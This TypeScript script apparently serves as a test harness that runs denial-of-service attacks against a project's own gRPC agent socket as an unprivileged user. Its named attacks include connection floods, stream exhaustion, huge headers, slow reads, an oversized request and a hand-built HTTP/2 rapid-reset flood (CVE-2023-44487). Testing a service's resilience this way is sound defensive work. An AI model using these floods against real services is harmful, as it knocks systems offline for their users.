/**
 * What an ordinary user can send to an agent's socket: flood.ts SOCKET UID GID WHAT. Everything is loaded before the change of user.
 * Says "ready" when it holds all that it can get, and stays so until its standard input ends.
 */

import { once } from "node:events";
import { connect as connectHttp2, constants } from "node:http2";
import { connect, type Socket } from "node:net";

const [path = "", uid, gid, what = ""] = process.argv.slice(2);
process.setgroups?.([]);
process.setgid?.(Number(gid));
process.setuid?.(Number(uid));

const service = "/luksmith.v1.AgentService";
const streamsEach = 200;
const emptyMessage = Buffer.alloc(5);

function session() {
  const opened = connectHttp2("http://agent", { createConnection: () => connect(path) as Socket });
  opened.on("error", () => undefined);
  return opened;
}

function call(opened: ReturnType<typeof session>, method: string, more: Record<string, string> = {}) {
  const stream = opened.request({
    ":method": "POST",
    ":path": `${service}/${method}`,
    "content-type": "application/grpc",
    te: "trailers",
    ...more,
  });
  stream.on("error", () => undefined);
  stream.resume();
  return stream;
}

/** RFC 9113, 6. */
const headersFrame = 1;
const resetFrame = 3;
const settingsFrame = 4;
const endHeaders = 4;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** RFC 7541, 6.2.2: without an index, without Huffman's code; none is longer than 126 bytes. */
function literalHeaders(headers: Record<string, string>): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  return Buffer.concat(Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]));
}

const attacks: Record<string, () => Promise<unknown>> = {
  /** 500 connections that say nothing. */
  async connections() {
    const sockets = Array.from({ length: 500 }, () => connect(path));
    for (const socket of sockets) socket.on("error", () => undefined).resume();
    await Promise.all(sockets.map((socket) => Promise.race([once(socket, "connect"), once(socket, "close")])));
  },
  /** Calls that never say what they want. */
  async unfinished() {
    const opened = session();
    await once(opened, "remoteSettings");
    for (let count = 0; count < streamsEach; count += 1) call(opened, "GetStatus");
  },
  /** Complete calls, more than one may have at a time. */
  async calls() {
    const opened = Array.from({ length: 4 }, session);
    await Promise.all(opened.map((one) => once(one, "remoteSettings")));
    const calls = opened.flatMap((one) => Array.from({ length: 20 }, () => call(one, "Doctor")));
    for (const each of calls) each.end(emptyMessage);
    const refused = calls.map((each) => once(each, "close"));
    // 32 of the 80 wait for their answer
    let ended = 0;
    for (const each of refused) each.then(() => (ended += 1));
    while (ended < 48) await new Promise((resolve) => setTimeout(resolve, 10));
  },
  /** Calls that are begun and given up at once (CVE-2023-44487), until the connection is closed. Node's own client would not send them. */
  async resets() {
    const socket = connect(path);
    socket.on("error", () => undefined).resume();
    await once(socket, "connect");
    // by a reset, most often
    const closed = once(socket, "close").catch(() => undefined);
    socket.write(
      Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(settingsFrame, 0, 0, Buffer.alloc(0))]),
    );
    const headers = literalHeaders({
      ":method": "POST",
      ":scheme": "http",
      ":path": `${service}/GetStatus`,
      ":authority": "agent",
      "content-type": "application/grpc",
      te: "trailers",
    });
    const cancel = Buffer.from([0, 0, 0, constants.NGHTTP2_CANCEL]);
    for (let stream = 1; !socket.destroyed; stream += 200) {
      const numbers = Array.from({ length: 100 }, (_, index) => stream + 2 * index);
      const frames = numbers.flatMap((id) => [
        frame(headersFrame, endHeaders, id, headers),
        frame(resetFrame, 0, id, cancel),
      ]);
      if (!socket.write(Buffer.concat(frames)))
        await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), closed]);
    }
  },
  /** A megabyte of headers with each call. */
  async headers() {
    const opened = session();
    await once(opened, "remoteSettings");
    const large = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`x-${index}`, "x".repeat(10_000)]));
    const closed = Array.from({ length: 50 }, () => once(call(opened, "GetStatus", large), "close"));
    await Promise.race([Promise.allSettled(closed), once(opened, "close")]);
  },
  /** Reads nothing of what it has asked for, in all the calls that it can have. */
  async slow() {
    const opened = session();
    await once(opened, "remoteSettings");
    for (let count = 0; count < 32; count += 1) {
      const stream = opened.request({
        ":method": "POST",
        ":path": `${service}/WatchRun`,
        "content-type": "application/grpc",
        te: "trailers",
      });
      stream.on("error", () => undefined).pause();
      // WatchRunRequest { id: "last", follow: true }
      stream.end(Buffer.from([0, 0, 0, 0, 8, 0x0a, 4, ...Buffer.from("last"), 0x10, 1]));
      await Promise.race([once(stream, "response"), once(stream, "close")]);
    }
  },
  /** A request of a hundred megabytes that claims to be one of a megabyte at a time. */
  async endless() {
    const opened = session();
    await once(opened, "remoteSettings");
    const stream = call(opened, "GetRun").setMaxListeners(0);
    const message = Buffer.alloc(2 ** 20);
    message.writeUInt32BE(2 ** 20 - 5, 1);
    for (let sent = 0; sent < 100 && !stream.destroyed && stream.writable; sent += 1) {
      if (!stream.write(message))
        await Promise.race([new Promise((resolve) => stream.once("drain", resolve)), once(stream, "close")]);
    }
  },
};

await attacks[what]?.();
process.stdout.write("ready\n");
await once(process.stdin.resume(), "end");
process.exit();
